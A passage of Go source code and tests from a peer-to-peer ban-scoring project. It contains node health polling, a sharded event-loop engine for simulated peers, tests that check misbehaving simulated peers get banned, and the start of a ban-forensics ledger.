		parts = append(parts, fmt.Sprintf("%s x%d (+%d)", rule, a.hits, a.delta))
	}
	return fmt.Sprintf("%s -> score %d", strings.Join(parts, ", "), records[len(records)-1].Score)
}

// pollHealth records /healthz status transitions.
func (o *Observer) pollHealth(st *pollState) {
	var doc struct {
		Status   string   `json:"status"`
		Degraded []string `json:"degraded"`
	}
	if err := o.getJSON(st.target.BaseURL, "/healthz", &doc, http.StatusServiceUnavailable); err != nil {
		return
	}
	status := doc.Status
	if len(doc.Degraded) > 0 {
		status = doc.Status + ": " + strings.Join(doc.Degraded, ",")
	}
	if status == st.health || (st.health == "" && doc.Status == "ok") {
		st.health = status
		return
	}
	st.health = status
	o.store.Ingest(Event{
		Node:   st.target.ID,
		Stream: StreamHealth,
		At:     o.clock.Now(),
		Kind:   KindHealth,
		Detail: status,
	})
}

// pollBanstore records the persistence layer's health flips.
func (o *Observer) pollBanstore(st *pollState) {
	var doc struct {
		Healthy bool   `json:"healthy"`
		LSN     uint64 `json:"lsn"`
	}
	if err := o.getJSON(st.target.BaseURL, "/debug/banstore", &doc); err != nil {
		return // no ban store on this node
	}
	verdict := "degraded"
	if doc.Healthy {
		verdict = "healthy"
	}
	if verdict == st.banstore || (st.banstore == "" && doc.Healthy) {
		st.banstore = verdict
		return
	}
	st.banstore = verdict
	o.store.Ingest(Event{
		Node:   st.target.ID,
		Stream: StreamBanstore,
		At:     o.clock.Now(),
		Kind:   KindBanstoreHealth,
		Value:  float64(doc.LSN),
		Detail: verdict,
	})
}

// pollReputation records netgroup verdict transitions.
func (o *Observer) pollReputation(st *pollState) {
	var doc struct {
		Groups []struct {
			Group    string  `json:"group"`
			Pressure float64 `json:"pressure"`
			Status   string  `json:"status"`
		} `json:"groups"`
	}
	if err := o.getJSON(st.target.BaseURL, "/debug/reputation", &doc); err != nil {
		return // no reputation engine on this node
	}
	for _, g := range doc.Groups {
		prev := st.netgroups[g.Group]
		if g.Status == prev || (prev == "" && g.Status == "ok") {
			st.netgroups[g.Group] = g.Status
			continue
		}
		st.netgroups[g.Group] = g.Status
		o.store.Ingest(Event{
			Node:   st.target.ID,
			Stream: StreamNetgroup,
			At:     o.clock.Now(),
			Kind:   KindNetgroupVerdict,
			Peer:   g.Group,
			Value:  g.Pressure,
			Detail: g.Status,
		})
	}
}

// pollNodeInfo records the node_info identity gauge once per distinct
// identity.
func (o *Observer) pollNodeInfo(st *pollState) {
	var doc struct {
		Metrics []struct {
			Name   string            `json:"name"`
			Labels map[string]string `json:"labels,omitempty"`
		} `json:"metrics"`
	}
	if err := o.getJSON(st.target.BaseURL, "/metrics?format=json", &doc); err != nil {
		return
	}
	for _, m := range doc.Metrics {
		if m.Name != "node_info" {
			continue
		}
		keys := make([]string, 0, len(m.Labels))
		for k := range m.Labels {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		parts := make([]string, 0, len(keys))
		for _, k := range keys {
			parts = append(parts, k+"="+m.Labels[k])
		}
		info := strings.Join(parts, " ")
		if info == st.nodeInfo {
			return
		}
		st.nodeInfo = info
		o.store.Ingest(Event{
			Node:   st.target.ID,
			Stream: StreamNode,
			At:     o.clock.Now(),
			Kind:   KindNodeInfo,
			Detail: info,
		})
		return
	}
}
