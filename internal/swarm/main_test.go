package swarm_test

import (
	"testing"

	"banscore/internal/leakcheck"
)

// TestMain proves the engine's worker pool drains on Stop: the gospawn
// analyzer shows every shard goroutine registers with the WaitGroup, and
// leakcheck shows no worker outlives the tests.
func TestMain(m *testing.M) { leakcheck.Main(m) }
