package swarm_test

import (
	"os"
	"strconv"
	"testing"

	"banscore/internal/experiments"
)

// scenarioPeers reads the swarm size from BANSCORE_SWARM_PEERS, defaulting
// small enough for the regular test run. CI's swarm-smoke job raises it to
// 10000; the nightly workflow runs 100000 through cmd/experiments instead.
func scenarioPeers(t *testing.T, fallback int) int {
	t.Helper()
	v := os.Getenv("BANSCORE_SWARM_PEERS")
	if v == "" {
		return fallback
	}
	n, err := strconv.Atoi(v)
	if err != nil || n <= 0 {
		t.Fatalf("BANSCORE_SWARM_PEERS=%q: want a positive integer", v)
	}
	return n
}

// TestSwarmScenario runs the Sybil-swarm scenario end to end under
// leakcheck: every identity must end banned (the exact-count assertion
// that batched ban application neither under- nor over-bans), churned
// identities must re-earn their ban from zero, and — enforced by
// TestMain — no goroutine may outlive the scenario's teardown.
func TestSwarmScenario(t *testing.T) {
	peers := scenarioPeers(t, 1500)
	res, err := experiments.Swarm(experiments.SwarmConfig{
		Attackers:  peers,
		ChurnEvery: 7,
	})
	if err != nil {
		t.Fatalf("swarm: %v\n%s", err, res.Render())
	}
	t.Logf("\n%s", res.Render())

	if res.Banned != peers {
		t.Fatalf("banned = %d, want every one of %d identities", res.Banned, peers)
	}
	if res.PeakLive != peers {
		t.Fatalf("peak live = %d, want %d concurrent peers", res.PeakLive, peers)
	}
	if want := (peers + 6) / 7; res.Churned != want {
		t.Fatalf("churned = %d, want %d", res.Churned, want)
	}
	if res.MessagesProcessed == 0 || res.MsgsPerSec <= 0 || res.PeersPerSec <= 0 {
		t.Fatalf("degenerate throughput: %+v", res)
	}
}
