// Package swarm implements the event-loop dispatcher that lets a single
// process sustain 100k+ concurrent simulated peers: instead of the
// goroutine pair (readLoop/writeLoop) per connection, connections are
// sharded by the tracker's FNV-1a peer-ID hash onto a fixed worker pool.
// Each shard owns a run queue of ready connections and an arena of
// slab-allocated, index-addressed per-peer slots reused across churn, so
// 100k peers cost neither 200k goroutines nor 100k scattered heap objects.
// Misbehavior raised while a shard's worker dispatches is staged into the
// shard's batch and flushed once per loop iteration — one Tracker
// shard-lock acquisition per touched shard instead of one per hit —
// through the same scoring body as the inline path, preserving per-peer
// Seq/Score linearization (see core.Batch).
//
// The engine plugs into the node via peer.Runner (node
// Config.PeerRunner): real-TCP deployments keep goroutine loops; simnet
// swarms opt in. Readiness comes from the simnet fabric's edge-triggered
// callbacks (Conn.SetReadable/SetWritable, peer.SetQueueWake), and a
// worker only calls into the blocking decode path when a complete wire
// frame is already buffered, so workers never park on a socket.
//
// Lock ordering: a shard's mu is a leaf below both the node's mu and the
// simnet pipe locks. Workers never hold shard mu while dispatching
// (handlers take node mu) or flushing (the batch takes tracker shard
// locks), and the fabric invokes readiness callbacks only after releasing
// its pipe lock.
package swarm

import (
	"encoding/binary"
	"fmt"
	"sync"
	"sync/atomic"

	"banscore/internal/core"
	"banscore/internal/peer"
	"banscore/internal/simnet"
	"banscore/internal/wire"
)

// Batcher is the per-shard misbehavior staging buffer: the peer-facing
// sink plus the end-of-iteration flush. node.MisbehaviorBatch implements
// it; the indirection keeps this package free of a node dependency.
type Batcher interface {
	peer.MisbehaviorSink
	Flush()
}

// DefaultReadBudget bounds how many messages one connection may dispatch
// per run-queue visit. The budget is the fairness knob: one peer with a
// deep buffered backlog (a flooder, by construction) cannot starve the
// rest of its shard; it is re-queued behind them instead.
const DefaultReadBudget = 64

// slotBlockShift sizes the arena's slabs: slots are allocated in blocks
// of 1<<slotBlockShift, so growing to 100k peers means appending block
// pointers, never copying live per-peer state.
const slotBlockShift = 10

// Config parameterizes an Engine.
type Config struct {
	// Shards is the worker-pool width, rounded up to a power of two.
	// Zero selects GOMAXPROCS rounded likewise. Each shard runs one
	// worker goroutine and owns the connections whose peer-ID hash maps
	// to it.
	Shards int

	// NewBatch builds a shard's misbehavior staging buffer. The engine
	// calls it lazily from worker context, so it may close over a node
	// that is constructed after the engine. Nil disables batching:
	// misbehavior then applies inline, exactly as goroutine-loop peers.
	NewBatch func() Batcher

	// ReadBudget caps messages dispatched per connection per visit; zero
	// selects DefaultReadBudget.
	ReadBudget int
}

// slot is one arena entry: the per-peer state of a registered connection.
// Slots are index-addressed and reused: gen increments on every detach so
// a wake captured against a retired occupant cannot schedule (or worse,
// dispatch) its successor.
type slot struct {
	p    *peer.Peer
	conn *simnet.Conn
	gen  uint32
	// queued dedups run-queue entries: set when the slot is enqueued,
	// cleared when a worker drains it into its working set.
	queued bool
}

// shard owns one lane of connections and the worker that pumps them.
type shard struct {
	e *Engine

	mu   sync.Mutex
	cond *sync.Cond
	runq []int32
	// blocks is the slab arena; free holds recycled slot indices.
	blocks  [][]slot
	free    []int32
	live    int
	stopped bool

	// batch is the shard's staging buffer, created lazily on the worker.
	// Only the worker touches it (stage during dispatch, flush at
	// iteration end), so it needs no lock.
	batch Batcher
}

// Engine is the sharded event-loop dispatcher. It implements peer.Runner.
type Engine struct {
	cfg    Config
	mask   uint32
	shards []*shard

	admitted atomic.Uint64
	wg       sync.WaitGroup
	stopOnce sync.Once
}

var _ peer.Runner = (*Engine)(nil)

// NewEngine builds the engine and starts its worker pool.
func NewEngine(cfg Config) *Engine {
	n := cfg.Shards
	if n <= 0 {
		n = defaultShardCount()
	}
	pow := 1
	for pow < n {
		pow <<= 1
	}
	if cfg.ReadBudget <= 0 {
		cfg.ReadBudget = DefaultReadBudget
	}
	e := &Engine{cfg: cfg, mask: uint32(pow - 1), shards: make([]*shard, pow)}
	for i := range e.shards {
		sh := &shard{e: e}
		sh.cond = sync.NewCond(&sh.mu)
		e.shards[i] = sh
		e.spawn(sh.loop)
	}
	return e
}

// spawn runs fn on a goroutine registered with the engine's WaitGroup
// before it starts, so Stop collects it (banlint gospawn contract).
func (e *Engine) spawn(fn func()) {
	e.wg.Add(1)
	go func() {
		defer e.wg.Done()
		fn()
	}()
}

// Run implements peer.Runner: peer.Start hands the connection over here.
// The transport must be a simnet.Conn — the event loop is built on the
// fabric's readiness callbacks; wiring the engine to a real TCP node is a
// configuration error, reported loudly.
func (e *Engine) Run(p *peer.Peer) {
	sc, ok := p.Conn().(*simnet.Conn)
	if !ok {
		panic(fmt.Sprintf("swarm: peer %s transport %T is not a simnet.Conn; use goroutine loops (nil PeerRunner) for real sockets", p.ID(), p.Conn()))
	}
	sh := e.shards[core.ShardHash(p.ID())&e.mask]
	sh.register(p, sc)
	e.admitted.Add(1)
}

// Admitted returns the cumulative count of connections handed to the
// engine — the numerator of the peers/sec admission benchmark.
func (e *Engine) Admitted() uint64 { return e.admitted.Load() }

// Live returns how many connections the engine is currently pumping.
func (e *Engine) Live() int {
	total := 0
	for _, sh := range e.shards {
		sh.mu.Lock()
		total += sh.live
		sh.mu.Unlock()
	}
	return total
}

// Shards returns the worker-pool width.
func (e *Engine) Shards() int { return len(e.shards) }

// Stop shuts the worker pool down. Connections are not closed — their
// owner (the node) tears them down; Stop only stops pumping them.
func (e *Engine) Stop() {
	e.stopOnce.Do(func() {
		for _, sh := range e.shards {
			sh.mu.Lock()
			sh.stopped = true
			sh.cond.Broadcast()
			sh.mu.Unlock()
		}
		e.wg.Wait()
	})
}

// slotAt returns the arena entry for idx. Callers hold sh.mu.
func (sh *shard) slotAt(idx int32) *slot {
	return &sh.blocks[idx>>slotBlockShift][idx&(1<<slotBlockShift-1)]
}

// register installs a connection into the arena and arms its readiness
// callbacks. The initial enqueue covers anything that arrived before the
// callbacks existed.
func (sh *shard) register(p *peer.Peer, conn *simnet.Conn) {
	sh.mu.Lock()
	var idx int32
	if n := len(sh.free); n > 0 {
		idx = sh.free[n-1]
		sh.free = sh.free[:n-1]
	} else {
		idx = int32(len(sh.blocks) << slotBlockShift)
		if len(sh.blocks) > 0 {
			last := len(sh.blocks) - 1
			if len(sh.blocks[last]) < cap(sh.blocks[last]) {
				idx = int32(last<<slotBlockShift + len(sh.blocks[last]))
			}
		}
		if int(idx)>>slotBlockShift >= len(sh.blocks) {
			sh.blocks = append(sh.blocks, make([]slot, 0, 1<<slotBlockShift))
		}
		b := idx >> slotBlockShift
		sh.blocks[b] = sh.blocks[b][:len(sh.blocks[b])+1]
	}
	s := sh.slotAt(idx)
	gen := s.gen // survives reuse; bumped at detach
	s.p, s.conn, s.queued = p, conn, false
	sh.live++
	sh.mu.Unlock()

	// Arm the wake paths outside sh.mu (callback setters take pipe
	// locks; shard mu stays a leaf). The shared closure is cheap: all
	// three signals mean "this connection may have work".
	wake := func() { sh.wake(idx, gen) }
	conn.SetReadable(wake)
	conn.SetWritable(wake)
	p.SetQueueWake(wake)
	if sh.e.cfg.NewBatch != nil {
		sh.mu.Lock()
		if sh.batch == nil {
			sh.batch = sh.e.cfg.NewBatch()
		}
		batch := sh.batch
		sh.mu.Unlock()
		p.SetMisbehaviorSink(batch)
	}
	wake()
}

// wake marks the slot runnable. Stale generations — wakes armed for a
// previous occupant of a recycled slot — are discarded, which is what
// makes slot reuse safe against callbacks still held by dying pipes.
func (sh *shard) wake(idx int32, gen uint32) {
	sh.mu.Lock()
	s := sh.slotAt(idx)
	if s.gen == gen && s.p != nil && !s.queued {
		s.queued = true
		sh.runq = append(sh.runq, idx)
		sh.cond.Signal()
	}
	sh.mu.Unlock()
}

// detach retires a finished connection's slot: generation bumped (stale
// wakes die), per-peer state cleared (a future occupant inherits nothing),
// index recycled.
func (sh *shard) detach(idx int32, p *peer.Peer, conn *simnet.Conn) {
	conn.SetReadable(nil)
	conn.SetWritable(nil)
	p.SetQueueWake(nil)
	p.SetMisbehaviorSink(nil)
	sh.mu.Lock()
	s := sh.slotAt(idx)
	if s.p == p {
		s.gen++
		s.p, s.conn, s.queued = nil, nil, false
		sh.free = append(sh.free, idx)
		sh.live--
	}
	sh.mu.Unlock()
}

// loop is the shard worker: drain the run queue into a working set, pump
// each ready connection, then flush the iteration's staged misbehavior.
func (sh *shard) loop() {
	var ready []int32
	for {
		sh.mu.Lock()
		for len(sh.runq) == 0 && !sh.stopped {
			sh.cond.Wait()
		}
		if sh.stopped {
			sh.mu.Unlock()
			return
		}
		ready = append(ready[:0], sh.runq...)
		sh.runq = sh.runq[:0]
		// Clear queued under the lock before servicing: a wake arriving
		// mid-service must land in the next iteration, not be lost.
		for _, idx := range ready {
			sh.slotAt(idx).queued = false
		}
		sh.mu.Unlock()

		for _, idx := range ready {
			sh.service(idx)
		}
		// One flush per loop iteration: every misbehavior staged by the
		// dispatches above applies now, under one tracker shard-lock
		// acquisition per touched shard.
		if sh.batch != nil {
			sh.batch.Flush()
		}
	}
}

// frameReady reports whether the next read on the connection cannot
// block: a complete wire frame is buffered, the direction is closed (reads
// drain then fail fast), or the claimed payload is oversized (the decoder
// rejects it from the header alone).
func frameReady(conn *simnet.Conn, hdr *[wire.MessageHeaderSize]byte) bool {
	avail, closed := conn.ReadBuffered()
	if closed {
		return true
	}
	if avail < wire.MessageHeaderSize {
		return false
	}
	conn.PeekBuffered(hdr[:])
	payloadLen := binary.LittleEndian.Uint32(hdr[16:20])
	if payloadLen > wire.MaxMessagePayload {
		return true
	}
	return avail >= wire.MessageHeaderSize+int(payloadLen)
}

// service pumps one ready connection: dispatch buffered inbound frames up
// to the read budget, then drain its outbound queue as far as the peer's
// socket buffer allows, then re-queue if work remains.
func (sh *shard) service(idx int32) {
	sh.mu.Lock()
	s := sh.slotAt(idx)
	p, conn, gen := s.p, s.conn, s.gen
	sh.mu.Unlock()
	if p == nil {
		return
	}

	var hdr [wire.MessageHeaderSize]byte
	for i := 0; i < sh.e.cfg.ReadBudget; i++ {
		if !frameReady(conn, &hdr) {
			break
		}
		if avail, closed := conn.ReadBuffered(); closed && avail == 0 {
			// Nothing left to drain: surface the EOF/reset without a
			// decode round trip.
			p.Disconnect()
			sh.detach(idx, p, conn)
			return
		}
		if !p.ReadStep() {
			sh.detach(idx, p, conn)
			return
		}
	}

	pending, ok := p.WriteStep(func() bool {
		space, closed := conn.WriteSpace()
		// A closed pipe must not gate the step: the write fails fast
		// and tears the peer down instead of parking its queue forever.
		return closed || space > 0
	})
	if !ok {
		sh.detach(idx, p, conn)
		return
	}

	// Re-arm if this visit left work behind: budget-exhausted reads or
	// back-pressured writes. Readiness callbacks only fire on edges, and
	// the edge for this data has already passed.
	if pending || frameReady(conn, &hdr) {
		sh.wake(idx, gen)
	}
}
