package swarm_test

import (
	"encoding/binary"
	"fmt"
	"net"
	"sync/atomic"
	"testing"
	"time"

	"banscore/internal/core"
	"banscore/internal/node"
	"banscore/internal/simnet"
	"banscore/internal/swarm"
	"banscore/internal/wire"
)

// env is a victim node on a simnet fabric whose connections are pumped by
// the event-loop engine instead of goroutine pairs — the production swarm
// wiring: the engine's shard batches are node MisbehaviorBatches closed
// over the node constructed after the engine.
type env struct {
	fabric *simnet.Network
	eng    *swarm.Engine
	node   *node.Node
	addr   string
	ports  atomic.Uint32
}

func newEnv(t *testing.T, shards int, mutate func(*node.Config)) *env {
	t.Helper()
	fabric := simnet.NewNetwork()
	e := &env{fabric: fabric, addr: "10.0.0.1:8333"}
	var n *node.Node
	e.eng = swarm.NewEngine(swarm.Config{
		Shards:   shards,
		NewBatch: func() swarm.Batcher { return n.NewMisbehaviorBatch() },
	})
	cfg := node.Config{
		PeerRunner:       e.eng,
		DisableReconnect: true,
		Dialer: func(remote string) (net.Conn, error) {
			port := 40000 + e.ports.Add(1)
			return fabric.Dial(fmt.Sprintf("10.0.0.1:%d", port), remote)
		},
	}
	if mutate != nil {
		mutate(&cfg)
	}
	n = node.New(cfg)
	e.node = n
	l, err := fabric.Listen(e.addr)
	if err != nil {
		t.Fatal(err)
	}
	n.Serve(l)
	t.Cleanup(func() {
		e.node.Stop()
		e.eng.Stop()
		fabric.Close()
	})
	return e
}

func (e *env) dial(t *testing.T, from string) net.Conn {
	t.Helper()
	conn, err := e.fabric.Dial(from, e.addr)
	if err != nil {
		t.Fatal(err)
	}
	return conn
}

func send(t *testing.T, conn net.Conn, msg wire.Message) {
	t.Helper()
	if _, err := wire.WriteMessage(conn, msg, wire.ProtocolVersion, wire.SimNet); err != nil {
		t.Fatalf("send %s: %v", msg.Command(), err)
	}
}

func recv(t *testing.T, conn net.Conn) wire.Message {
	t.Helper()
	if err := conn.SetReadDeadline(time.Now().Add(2 * time.Second)); err != nil {
		t.Fatal(err)
	}
	msg, _, err := wire.ReadMessage(conn, wire.ProtocolVersion, wire.SimNet)
	if err != nil {
		t.Fatalf("recv: %v", err)
	}
	return msg
}

func clientVersion(from string, nonce uint64) *wire.MsgVersion {
	me := wire.NewNetAddressIPPort(net.IPv4(10, 0, 0, 2), 50001, wire.SFNodeNetwork)
	you := wire.NewNetAddressIPPort(net.IPv4(10, 0, 0, 1), 8333, wire.SFNodeNetwork)
	return wire.NewMsgVersion(me, you, nonce, 0)
}

func handshake(t *testing.T, conn net.Conn, from string) {
	t.Helper()
	send(t, conn, clientVersion(from, uint64(time.Now().UnixNano())))
	sawVersion, sawVerack := false, false
	for !sawVersion || !sawVerack {
		switch recv(t, conn).(type) {
		case *wire.MsgVersion:
			sawVersion = true
		case *wire.MsgVerAck:
			sawVerack = true
		}
	}
	send(t, conn, &wire.MsgVerAck{})
}

func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(2 * time.Millisecond)
	}
	t.Fatalf("timeout waiting for %s", what)
}

// TestEngineHandshakeAndPing proves basic protocol correctness under
// event-loop dispatch: the full VERSION/VERACK exchange and a ping/pong
// round trip work with zero per-connection goroutines on the victim.
func TestEngineHandshakeAndPing(t *testing.T) {
	e := newEnv(t, 2, nil)
	conn := e.dial(t, "10.0.0.2:50001")
	defer conn.Close()
	handshake(t, conn, "10.0.0.2:50001")

	send(t, conn, wire.NewMsgPing(777))
	for {
		if pong, ok := recv(t, conn).(*wire.MsgPong); ok {
			if pong.Nonce != 777 {
				t.Fatalf("pong nonce = %d, want 777", pong.Nonce)
			}
			break
		}
	}
	if got := e.eng.Admitted(); got != 1 {
		t.Fatalf("Admitted() = %d, want 1", got)
	}
}

// TestEngineBanAtExactThreshold drives the batched misbehavior path to a
// ban: each duplicate VERSION after the handshake scores 1, so the 100th
// duplicate must cross DefaultBanThreshold, ban the identifier, and
// disconnect the peer — with the hits applied via per-iteration batch
// flushes rather than inline.
func TestEngineBanAtExactThreshold(t *testing.T) {
	e := newEnv(t, 1, nil)
	from := "10.0.0.2:50001"
	conn := e.dial(t, from)
	defer conn.Close()
	handshake(t, conn, from)

	dup := clientVersion(from, 42)
	for i := 0; i < core.DefaultBanThreshold; i++ {
		if _, err := wire.WriteMessage(conn, dup, wire.ProtocolVersion, wire.SimNet); err != nil {
			// The ban can land while we are still flooding; the write
			// error is the disconnect arriving early.
			break
		}
	}
	id := core.PeerIDFromAddr(from)
	waitFor(t, "ban", func() bool { return e.node.Tracker().IsBanned(id) })
	waitFor(t, "disconnect", func() bool { return e.eng.Live() == 0 })

	// A banned identifier must be refused on re-dial: either the dial
	// itself fails or the connection is dropped before any reply.
	if c2, err := e.fabric.Dial(from, e.addr); err == nil {
		send(t, c2, clientVersion(from, 43))
		c2.SetReadDeadline(time.Now().Add(2 * time.Second))
		if _, _, err := wire.ReadMessage(c2, wire.ProtocolVersion, wire.SimNet); err == nil {
			t.Fatal("banned peer got a protocol reply")
		}
		c2.Close()
	}
}

// TestEngineSlotReuseAfterChurn proves the arena recycles slots without
// leaking the prior occupant's identity or score: peer A earns a partial
// score and disconnects (the node forgets unbanned scores on disconnect,
// as Core does), then peer B lands in the freed slot (single shard, LIFO
// free list) and must accumulate its own score from zero — not resume
// A's, and not have A's stale wake or sink deliver hits under B's ID.
func TestEngineSlotReuseAfterChurn(t *testing.T) {
	e := newEnv(t, 1, nil)

	fromA := "10.0.0.2:50001"
	connA := e.dial(t, fromA)
	handshake(t, connA, fromA)
	dup := clientVersion(fromA, 42)
	for i := 0; i < 40; i++ {
		send(t, connA, dup)
	}
	idA := core.PeerIDFromAddr(fromA)
	waitFor(t, "peer A scored", func() bool { return e.node.Tracker().Score(idA) == 40 })
	connA.Close()
	waitFor(t, "peer A detached", func() bool { return e.eng.Live() == 0 })

	fromB := "10.0.0.3:50002"
	connB := e.dial(t, fromB)
	defer connB.Close()
	handshake(t, connB, fromB)
	waitFor(t, "peer B live", func() bool { return e.eng.Live() == 1 })

	idB := core.PeerIDFromAddr(fromB)
	if got := e.node.Tracker().Score(idB); got != 0 {
		t.Fatalf("recycled slot leaked score: peer B starts at %d, want 0", got)
	}

	// B misbehaves in the reused slot: its score must build from zero
	// under its own identifier, unaffected by A's 40 hits.
	dupB := clientVersion(fromB, 43)
	for i := 0; i < 10; i++ {
		send(t, connB, dupB)
	}
	waitFor(t, "peer B scored independently", func() bool { return e.node.Tracker().Score(idB) == 10 })
	if e.node.Tracker().IsBanned(idB) {
		t.Fatal("peer B banned at score 10: inherited prior occupant's hits")
	}

	// B must still be fully functional in the reused slot.
	send(t, connB, wire.NewMsgPing(9))
	for {
		if pong, ok := recv(t, connB).(*wire.MsgPong); ok && pong.Nonce == 9 {
			break
		}
	}
}

// TestEngineDrainingShardChurn hammers one shard with connections that
// arrive while their predecessors are mid-detach: every peer hashes onto
// the same worker, so registrations race detaches for the same slot
// indices and stale wakes from dying pipes fire against recycled slots.
// The generation guard must keep every connection independently correct.
func TestEngineDrainingShardChurn(t *testing.T) {
	e := newEnv(t, 1, nil)
	const rounds = 30
	for i := 0; i < rounds; i++ {
		from := fmt.Sprintf("10.0.%d.2:50001", i+2)
		conn := e.dial(t, from)
		handshake(t, conn, from)
		send(t, conn, wire.NewMsgPing(uint64(i)))
		// Close without draining the pong: the engine sees the close
		// edge while a write may still be pending.
		conn.Close()
	}
	waitFor(t, "all churned peers detached", func() bool { return e.eng.Live() == 0 })
	if got := e.eng.Admitted(); got != rounds {
		t.Fatalf("Admitted() = %d, want %d", got, rounds)
	}

	// The shard must still serve a fresh connection after the churn.
	conn := e.dial(t, "10.1.0.2:50001")
	defer conn.Close()
	handshake(t, conn, "10.1.0.2:50001")
}

// TestEngineFaultPlanReset proves fault injection composes with event-loop
// connections: a link plan that hard-resets after a byte budget must tear
// the peer down through the engine's close handling, not strand the slot.
func TestEngineFaultPlanReset(t *testing.T) {
	e := newEnv(t, 2, nil)
	from := "10.0.0.2:50001"
	e.fabric.SetLinkFaultsBoth("10.0.0.2", "10.0.0.1", &simnet.FaultPlan{ResetAfterBytes: 4096})

	conn := e.dial(t, from)
	defer conn.Close()
	handshake(t, conn, from)
	waitFor(t, "peer live", func() bool { return e.eng.Live() == 1 })

	// Burn through the byte budget; the reset lands mid-stream.
	for i := 0; i < 200; i++ {
		if _, err := wire.WriteMessage(conn, wire.NewMsgPing(uint64(i)), wire.ProtocolVersion, wire.SimNet); err != nil {
			break
		}
	}
	waitFor(t, "reset detached the peer", func() bool { return e.eng.Live() == 0 })
}

// TestEngineOversizedFrameRejected proves the frame gate fails fast on a
// header whose claimed payload exceeds the wire maximum instead of waiting
// forever for bytes that will never arrive.
func TestEngineOversizedFrameRejected(t *testing.T) {
	e := newEnv(t, 1, nil)
	from := "10.0.0.2:50001"
	conn := e.dial(t, from)
	defer conn.Close()
	handshake(t, conn, from)
	waitFor(t, "peer live", func() bool { return e.eng.Live() == 1 })

	// Hand-build a header claiming a payload far beyond MaxMessagePayload
	// and send only the header. The decoder must reject it from the
	// header alone and the engine must tear the connection down.
	hdr := make([]byte, wire.MessageHeaderSize)
	binary.LittleEndian.PutUint32(hdr[0:4], uint32(wire.SimNet))
	copy(hdr[4:16], "ping")
	binary.LittleEndian.PutUint32(hdr[16:20], wire.MaxMessagePayload+1)
	if _, err := conn.Write(hdr); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "oversized frame rejected", func() bool { return e.eng.Live() == 0 })
}

// TestEngineEOFDrain proves buffered frames written before a close are
// still dispatched: the engine drains the buffer before surfacing EOF.
func TestEngineEOFDrain(t *testing.T) {
	e := newEnv(t, 1, nil)
	from := "10.0.0.2:50001"
	conn := e.dial(t, from)
	handshake(t, conn, from)

	dup := clientVersion(from, 42)
	for i := 0; i < 25; i++ {
		send(t, conn, dup)
	}
	conn.Close()

	id := core.PeerIDFromAddr(from)
	waitFor(t, "pre-close frames scored", func() bool { return e.node.Tracker().Score(id) == 25 })
	waitFor(t, "peer detached", func() bool { return e.eng.Live() == 0 })
}
