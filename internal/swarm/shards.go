package swarm

import "runtime"

// defaultShardCount sizes the worker pool to the machine: one shard per
// scheduler slot, capped so tiny CI runners still get enough lanes for
// the hash to spread peers.
func defaultShardCount() int {
	n := runtime.GOMAXPROCS(0)
	if n < 4 {
		n = 4
	}
	return n
}
