package swarm_test

import (
	"fmt"
	"os"
	"testing"

	"banscore/internal/experiments"
)

// BenchmarkSwarmScale runs the full Sybil-swarm scenario per iteration and
// reports the engine's scale numbers: peers/s admitted, msgs/s absorbed,
// and ns/msg per dispatched message. The bench gate compares the rates as
// higher-is-better (cmd/benchdiff treats units ending in "/s" that way and
// skips wall-time ns/op for ^BenchmarkSwarm — one iteration IS the whole
// scenario, sleeps included).
//
// peers=100000 — the "single process sustains 100k concurrent simulated
// peers" run — is gated behind BANSCORE_SWARM_FULL=1: it needs a few GB
// of memory and minutes of runtime, which the nightly workflow pays and
// the per-change gate does not.
func BenchmarkSwarmScale(b *testing.B) {
	for _, peers := range []int{1000, 10000, 100000} {
		if peers == 100000 && os.Getenv("BANSCORE_SWARM_FULL") == "" {
			continue
		}
		b.Run(fmt.Sprintf("peers=%d", peers), func(b *testing.B) {
			var last experiments.SwarmResult
			for i := 0; i < b.N; i++ {
				res, err := experiments.Swarm(experiments.SwarmConfig{
					Attackers:  peers,
					ChurnEvery: 7,
				})
				if err != nil {
					b.Fatalf("swarm: %v", err)
				}
				if res.Banned != peers {
					b.Fatalf("banned = %d, want %d", res.Banned, peers)
				}
				last = res
			}
			b.ReportMetric(last.PeersPerSec, "peers/s")
			b.ReportMetric(last.MsgsPerSec, "msgs/s")
			b.ReportMetric(last.AbsorbSeconds*1e9/float64(last.MessagesProcessed), "ns/msg")
		})
	}
}
