package core

import (
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"time"
)

// BanRecord is one immutable forensics entry: a single Misbehaving call that
// scored. The chain of records for a peer is the complete causal answer to
// "why is this peer banned" — rule by rule, delta by delta, with the wire
// command that triggered each hit and the lifecycle trace (if the message
// was sampled) it belongs to.
type BanRecord struct {
	// Seq is the 1-based per-peer sequence number.
	Seq uint64 `json:"seq"`

	// At is the tracker clock's time of the call.
	At time.Time `json:"at"`

	Peer PeerID `json:"peer"`

	// RuleID / Rule identify the Table I rule that fired.
	RuleID RuleID `json:"rule_id"`
	Rule   string `json:"rule"`

	// Delta is the score this call added; Score is the peer's resulting
	// total.
	Delta int `json:"delta"`
	Score int `json:"score"`

	// Banned is true when this call pushed the peer over the threshold.
	Banned bool `json:"banned"`

	// Command is the wire command of the triggering message, when known.
	Command string `json:"command,omitempty"`

	// TraceID links to the message's lifecycle trace (0 when the message
	// was not sampled or tracing was off).
	TraceID uint64 `json:"trace_id,omitempty"`

	// PayloadDigest is the offending payload's wire checksum (first 4
	// bytes of double-SHA256, big-endian) and PayloadLen its size in
	// bytes — the evidence that ties this record to the bytes on the
	// wire. Zero when the hit did not originate from a decoded message.
	PayloadDigest uint32 `json:"payload_digest,omitempty"`
	PayloadLen    int    `json:"payload_len,omitempty"`
}

// Ledger retention bounds. Chains survive disconnects and bans on purpose —
// Tracker.Forget drops live score state, never forensic history.
const (
	// DefaultLedgerPeers caps how many peers the ledger tracks; beyond it
	// the peer with the oldest first record is evicted whole.
	DefaultLedgerPeers = 4096

	// DefaultLedgerPerPeer caps records retained per peer; beyond it the
	// oldest records of that peer are trimmed.
	DefaultLedgerPerPeer = 256
)

// Ledger is the append-only ban forensics store. A nil *Ledger is a valid
// no-op sink, so the tracker records unconditionally. Safe for concurrent
// use.
type Ledger struct {
	mu      sync.Mutex
	chains  map[PeerID]*chain
	order   []PeerID // peers by first-record time, for whole-peer eviction
	total   uint64
	evicted uint64 // peers evicted whole
	trimmed uint64 // records trimmed from overlong chains

	maxPeers   int
	maxPerPeer int
}

